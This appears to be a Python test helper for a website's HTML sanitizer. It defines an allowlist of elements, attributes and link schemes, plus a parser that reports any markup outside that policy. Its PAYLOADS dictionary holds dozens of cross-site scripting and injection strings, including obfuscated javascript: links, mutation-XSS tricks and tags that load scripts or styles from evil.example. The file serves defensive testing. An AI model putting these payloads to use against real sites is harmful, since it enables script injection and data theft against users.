"""Markup of attackers, and what must be true of it wherever it comes out."""

from html.parser import HTMLParser

from articles import html

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "uppercase script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script src=//evil.example/x.js",
    "event handler": "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "image with onerror": "<img src=x onerror=alert(1)>",
    "image of a stranger": '<img src="https://evil.example/pixel.gif">',
    "image of a stranger by srcset": '<img srcset="//evil.example/a.gif 1x">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with a newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript link in references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript link behind a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link behind a referenced control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript link split by a referenced override": '<a href="java&#x202e;script:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link without a scheme": '<a href="//evil.example/">x</a>',
    "link with a backslash": '<a href="/\\evil.example/">x</a>',
    "link with a tab between slashes": '<a href="/\t/evil.example/">x</a>',
    "link with a reference between slashes": '<a href="/&#x202e;/evil.example/">x</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>',
    "mutation through math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation through a template": "<template><img src=x onerror=alert(1)></template>",
    "style element": "<style>@import '//evil.example/x.css';</style>",
    "style attribute": '<p style="background:url(//evil.example/x)">x</p>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='//evil.example/x.swf'>",
    "form": "<form action=//evil.example/><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "base": '<base href="//evil.example/">',
    "link element": '<link rel="stylesheet" href="//evil.example/x.css">',
    "comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "broken comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "video": "<video><source onerror=alert(1)></video>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "title breaking out": "</title><script>alert(1)</script>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "identity clobbering": '<p id="main" name="cookie" class="consent">x</p>',
    "attribute breaking out": "<a href='https://x.example/\"onmouseover=alert(1) x=\"'>x</a>",
}
ELEMENTS = html.BLOCKS | html.TABLES | html.INLINE
ATTRIBUTES = {"lang", "dir", "href", "hreflang", "title", "start", "scope", "colspan", "rowspan", "rel"}
TARGETS = ("https://", "http://", "mailto:", "tel:", "#")


class _Faults(HTMLParser):
    """Collects what of a fragment the policy does not name."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}={value}")
            if name == "href" and not _leads_where_allowed(value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("a processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.found.append("an unknown declaration")


def _leads_where_allowed(target: str) -> bool:
    own_path = target.startswith("/") and target[1:2] not in {"/", "\\", "\t", "\n", "\r", " "}
    return own_path or target.lower().startswith(TARGETS)


def faults(fragment: str) -> list[str]:
    """Return what stands in ``fragment`` that no body may hold: elements, attributes, link targets, comments."""
    parser = _Faults()
    parser.feed(fragment)
    parser.close()
    return parser.found


def body_of(page: str) -> str:
    """Return the inside of the one element of class ``body`` of a page: where releases show their text."""
    return _between(page, '<div class="body">', "</div>")


def _between(page: str, start: str, end: str) -> str:
    assert page.count(start) == 1
    return page.partition(start)[2].partition(end)[0]
